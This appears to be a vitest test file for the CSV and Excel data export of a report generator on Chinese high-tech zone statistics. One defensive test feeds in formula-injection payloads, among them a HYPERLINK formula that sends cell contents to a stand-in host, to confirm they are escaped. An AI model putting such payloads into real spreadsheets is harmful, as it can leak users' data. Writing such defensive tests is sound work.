/**
 * The data file of every kind: each printed figure is placed in the block that prints it (its
 * text is in that block), none is left without a place, and the CSV and the workbook carry
 * every row.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import {
  dataCsv,
  dataFileNames,
  dataXlsx,
  FORMULA_NOTE,
  RECORDS_NOTE,
} from '../../functions/app/data-export.ts';
import { referenceData } from '../../functions/app/reference-data.ts';
import {
  buildDataFile,
  DATA_COLUMNS,
  placesOf,
  storedNumber,
  unplacedFigures,
} from '../../functions/core/data-file.ts';
import { PRECISION_RULE } from '../../functions/core/numbers.ts';
import type { Figure } from '../../functions/core/figures.ts';
import type { Block, ReportView } from '../../functions/core/report-parts.ts';
import type { Reference } from '../../functions/core/reference.ts';
import type { KindContext } from '../../functions/reports/kind.ts';
import { reportKind } from '../../functions/reports/registry.ts';
import { recordsIn } from '../support/records-in.ts';
import { readRecords, repoRecordFiles, syntheticZonesFile } from '../support/trace.ts';

const decode = (s: string) =>
  s
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;|&#x27;/g, "'")
    .replace(/&amp;/g, '&');

/** Everything a block prints, as text. */
function blockText(b: Block): string {
  const parts: string[] = [];
  if (b.article)
    parts.push(
      b.article.title,
      ...(b.article.paragraphs ?? []).flatMap((p) => [p.lead ?? '', p.text]),
      decode(b.article.html ?? ''),
    );
  if (b.table)
    parts.push(
      b.table.caption,
      b.table.note ?? '',
      ...b.table.rows.flatMap((r) => r.cells.map((c) => c.text)),
    );
  if (b.chart) parts.push(b.chart.caption, b.chart.note ?? '', decode(b.chart.svg));
  if (b.zoneCards)
    parts.push(
      ...b.zoneCards.cards.flatMap((c) => [
        c.headline ?? '',
        ...c.facts.flatMap((f) => [f.value, f.growth ?? '', f.share ?? '']),
      ]),
    );
  return parts.join('\n');
}

describe('the data file of an issue', () => {
  let ref: Reference;
  let ctx: KindContext;
  const views: [string, ReportView][] = [];

  beforeAll(async () => {
    ref = referenceData();
    const records = [
      ...(await readRecords(ref, repoRecordFiles)),
      ...(await readRecords(ref, [syntheticZonesFile])),
    ];
    ctx = { records: recordsIn(records), reference: ref, timeZone: 'Asia/Shanghai' };
    const requests: [string, Record<string, string>][] = [
      ['torch-bulletin', { period: '2024' }],
      ['indicator-flash', {}],
      ['zone-profile', { zone: 'wuhan-donghu' }],
      ['zone-profile', { zone: 'chengdu' }],
      ['zone-profile', { zone: 'kunshan' }],
      ['regional-report', { region: '长三角' }],
      ['regional-report', { region: '东北' }],
    ];
    for (const [id, params] of requests) {
      const kind = reportKind(id);
      const series = ref.seriesById(kind.seriesOf(params))!;
      const resolved = await kind.resolve(ctx, params);
      const loaded = await kind.load(ctx, resolved);
      const view = kind.compose(ctx, series, resolved, loaded.inputs, {
        issue: { year: 2026, number: 2, total: 7 },
        date: new Date('2026-11-20T01:00:00Z'),
      });
      views.push([`${id} ${JSON.stringify(params)}`, view]);
    }
  });

  it('places every printed figure in a block that prints its text', () => {
    let placements = 0;
    for (const [name, view] of views) {
      expect(view.trace.length, name).toBeGreaterThan(0);
      expect(
        unplacedFigures(view).map((f) => f.text),
        name,
      ).toEqual([]);
      const blocks = new Map<string, Block>();
      for (const s of view.sections)
        for (const b of s.blocks) {
          const anchor =
            b.article?.anchor ?? b.table?.anchor ?? b.chart?.anchor ?? b.zoneCards?.anchor;
          if (anchor) blocks.set(anchor, b);
        }
      for (const p of view.placements) {
        const block = blocks.get(p.anchor);
        expect(block, `${name}: block ${p.anchor}`).toBeDefined();
        const f = view.trace[p.figure]!;
        // Prose words a qualifier and a sign apart (同比下降约2.3%, 并列3).
        const printed = f.text.replace(/^(约|超过|近|突破)/, '').replace(/^-/, '');
        const text = blockText(block!);
        // A trend chart whose labels share a unit prints it once, in the legend (（亿元）).
        const [, number, unit] = /^(.*\d)(\D*)$/.exec(printed) ?? [];
        if (block!.chart && !text.includes(printed) && number && unit) {
          expect(text, `${name}: ${f.text} in ${p.anchor}`).toContain(number);
          expect(text, `${name}: ${f.text} in ${p.anchor}`).toContain(`（${unit}）`);
        } else expect(text, `${name}: ${f.text} in ${p.anchor}`).toContain(printed);
        placements += 1;
      }
    }
    expect(placements).toBeGreaterThan(300);
  });

  it('lists each figure with its zone, indicator, period, value, unit, revision, source and place', () => {
    const [, bulletin] = views[0]!;
    const data = buildDataFile(bulletin);
    expect(data.columns).toEqual(DATA_COLUMNS);
    const col = (name: (typeof DATA_COLUMNS)[number]) => DATA_COLUMNS.indexOf(name);
    const gdp = data.rows.find(
      (r) =>
        r[col('指标代码')] === 'gdp' &&
        r[col('园区代码')] === 'national-htz' &&
        r[col('期别')] === '2024' &&
        r[col('口径')] === '数值' &&
        r[col('位置类型')] === '表格',
    )!;
    expect(gdp).toBeDefined();
    expect(gdp[col('园区')]).toBe('国家高新区');
    expect(gdp[col('指标')]).toBe('园区生产总值');
    expect(gdp[col('刊印值')]).toBe('突破19.3万亿元');
    expect(gdp[col('存储值')]).toBe('193000');
    expect(gdp[col('单位')]).toBe('亿元');
    expect(gdp[col('限定词')]).toBe('突破');
    expect(gdp[col('修订版本')]).toBe(1);
    expect(gdp[col('栏目')]).toBe('数据速览');
    expect(String(gdp[col('位置')])).toMatch(/^表1 /);
    expect(String(gdp[col('来源')])).not.toMatch(/seeds/);
    // The same figure is printed in the lead article as well.
    expect(
      data.rows.filter(
        (r) => r[col('刊印值')] === '突破19.3万亿元' && r[col('位置类型')] === '文章',
      ).length,
    ).toBeGreaterThan(0);
    // Every table of the view is a sheet.
    const tables = bulletin.sections.flatMap((s) => s.blocks.filter((b) => b.table));
    expect(data.tables.map((t) => t.caption)).toEqual(tables.map((b) => b.table!.caption));
    expect([...placesOf(bulletin).values()].every((p) => p.section)).toBe(true);
  });

  it('lists the records of a figure over many records once: a later row over the same ones says 同序号N', () => {
    const col = (name: (typeof DATA_COLUMNS)[number]) => DATA_COLUMNS.indexOf(name);
    const listOf = (f: Figure) =>
      f.refs.map((r) => `${r.zone}/${r.indicator}/${r.period}#${r.revision}`).join('；');
    // `indicator/period：zone#revision、…` (records of one indicator and period) read out.
    const expand = (records: string) => {
      const [, key, zones] = /^([^：]+)：(.*)$/.exec(records) ?? [];
      if (!key || !zones) return records;
      const [indicator, period] = key.split('/');
      return zones
        .split('、')
        .map((z) => `${z.split('#')[0]}/${indicator}/${period}#${z.split('#')[1]}`)
        .join('；');
    };
    let referred = 0;
    for (const [name, view] of views) {
      const data = buildDataFile(view);
      const lists = new Set(view.trace.filter((f) => f.refs.length > 1).map(listOf));
      const full: string[] = [];
      for (const row of data.rows) {
        const records = String(row[col('依据记录')]);
        const earlier = /^同序号(\d+)$/.exec(records);
        if (!earlier) {
          // Every list written out is the records of a figure, and is written out once.
          if (records) expect(lists.has(expand(records)), `${name} ${row[0]}`).toBe(true);
          if (expand(records).split('；').length > 2) full.push(records);
          continue;
        }
        // The row referred to comes before and lists the records themselves, as the
        // revisions column does.
        const n = Number(earlier[1]);
        const first = data.rows[n - 1]!;
        expect(n, `${name} ${row[0]}`).toBeLessThan(Number(row[0]));
        expect(String(first[col('依据记录')])).not.toMatch(/^同序号/);
        expect(row[col('修订版本')]).toBe(records);
        const revisions = expand(String(first[col('依据记录')]))
          .split('；')
          .map((r) => r.split('#')[1])
          .join('、');
        expect(first[col('修订版本')]).toBe(revisions);
        // A figure of the view prints this text over exactly those records.
        const over = view.trace.filter(
          (f) =>
            f.text === row[col('刊印值')] && listOf(f) === expand(String(first[col('依据记录')])),
        );
        expect(over.length, `${name} ${row[0]}`).toBeGreaterThan(0);
        referred += 1;
      }
      expect(new Set(full).size, name).toBe(full.length);
    }
    // A zone profile's count over the peers its rank is over, at least.
    expect(referred).toBeGreaterThan(10);
    // The peers of a rank (one indicator and period) are written as indicator/period：zone#revision.
    const [, profile] = views.find(([name]) => name.startsWith('zone-profile'))!;
    const rankRow = buildDataFile(profile).rows.find(
      (r) => r[col('口径')] === '排名' && !String(r[col('依据记录')]).startsWith('同序号'),
    )!;
    expect(String(rankRow[col('依据记录')])).toMatch(
      /^[a-z0-9-]+\/\d{4}：[a-z0-9-]+#\d+(、[a-z0-9-]+#\d+)+$/,
    );
  });

  it('states the precision rule in the data note of every kind that prints computed figures', () => {
    const computed = [
      'yoy-from-previous-period',
      'share-of-china',
      'difference',
      'sum',
      'share-of-total',
      'amount-difference',
      'ratio',
    ];
    let stated = 0;
    for (const [name, view] of views) {
      const computes = view.trace.some((f) => f.derived && computed.includes(f.derived));
      expect(view.dataQuality.notes.includes(PRECISION_RULE), name).toBe(computes);
      if (computes) stated += 1;
    }
    // The bulletin, the profiles and the regional reports compute growth, shares and sums.
    expect(stated).toBeGreaterThanOrEqual(5);
  });

  it('writes stored numbers as plain decimals', () => {
    expect(storedNumber(193000)).toBe('193000');
    expect(storedNumber(13700.000000000002)).toBe('13700');
    expect(storedNumber(0.05)).toBe('0.05');
    expect(storedNumber(-2.1)).toBe('-2.1');
    expect(storedNumber(96.31578947368421)).toBe('96.3157894737');
    // Past what a plain decimal of 100 places holds (toFixed threw a RangeError): the value
    // in exponent form, not an error, never 0.
    expect(storedNumber(1e-95)).toBe('1e-95');
    expect(storedNumber(-3.25e-120)).toBe('-3.25e-120');
    expect(storedNumber(1e-80)).toBe(`0.${'0'.repeat(79)}1`);
    expect(storedNumber(2.5e21)).toBe('2.5e+21');
  });

  it('serialises to CSV with a BOM and to a workbook with 数据 and one sheet per table', async () => {
    const [, bulletin] = views[0]!;
    const data = buildDataFile(bulletin);
    const csv = dataCsv(data);
    expect([...csv.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(Buffer.from(csv), { bom: true }) as string[][];
    expect(rows[0]).toEqual([...DATA_COLUMNS]);
    expect(rows.slice(1)).toEqual(data.rows.map((r) => r.map(String)));
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await dataXlsx(data)) as unknown as ArrayBuffer);
    expect(book.worksheets[0]!.name).toBe('数据');
    expect(book.worksheets[0]!.rowCount).toBe(data.rows.length + 1);
    expect(book.worksheets.length).toBe(data.tables.length + 2);
    expect(book.worksheets.at(-1)!.name).toBe('说明');
    const sheet = book.worksheets[1]!;
    expect(sheet.getRow(1).getCell(1).value).toBe(data.tables[0]!.caption);
    expect(dataFileNames('火炬动态-2026-第2期.pdf')).toEqual({
      csv: '火炬动态-2026-第2期-数据.csv',
      xlsx: '火炬动态-2026-第2期-数据.xlsx',
    });
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP); the workbook stays typed', async () => {
    const [, bulletin] = views[0]!;
    const data = buildDataFile(bulletin);
    const hostile = [
      '=HYPERLINK("http://x.example/?"&A1,"点击")',
      '+1+2',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
    ];
    const first = [...data.rows[0]!];
    first[3] = hostile[0]!;
    first[5] = hostile[1]!;
    first[7] = hostile[2]!;
    first[15] = hostile[3]!;
    first[12] = hostile[4]!;
    first[10] = '-2.1';
    const rows = [first, ...data.rows.slice(1)];
    const csv = parse(Buffer.from(dataCsv({ ...data, rows })), { bom: true }) as string[][];
    expect([csv[1]![3], csv[1]![5], csv[1]![7], csv[1]![15], csv[1]![12]]).toEqual(
      hostile.map((h) => `'${h}`),
    );
    // A plain (negative) number is a number, not a formula: left as it is.
    expect(csv[1]![10]).toBe('-2.1');
    // No cell of the CSV starts like a formula.
    for (const row of csv) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
    const book = new ExcelJS.Workbook();
    const numeric = [...first];
    numeric[10] = -2.1;
    await book.xlsx.load(
      Buffer.from(
        await dataXlsx({ ...data, rows: [numeric, ...rows.slice(1)] }),
      ) as unknown as ArrayBuffer,
    );
    const cells = book.worksheets[0]!.getRow(2);
    // Text stays text (no quote added, no formula made), numbers stay numbers.
    expect(cells.getCell(4).value).toBe(hostile[0]);
    expect(cells.getCell(11).value).toBe(-2.1);
    expect(cells.getCell(1).value).toBe(1);
    expect(book.getWorksheet('说明')!.getRow(2).getCell(1).value).toBe(FORMULA_NOTE);
    expect(FORMULA_NOTE).toContain('单引号');
    // … and how 依据记录 is written (the short form, 同序号N).
    expect(book.getWorksheet('说明')!.getRow(3).getCell(1).value).toBe(RECORDS_NOTE);
    expect(RECORDS_NOTE).toMatch(/同序号N.*序号/);
  });
});
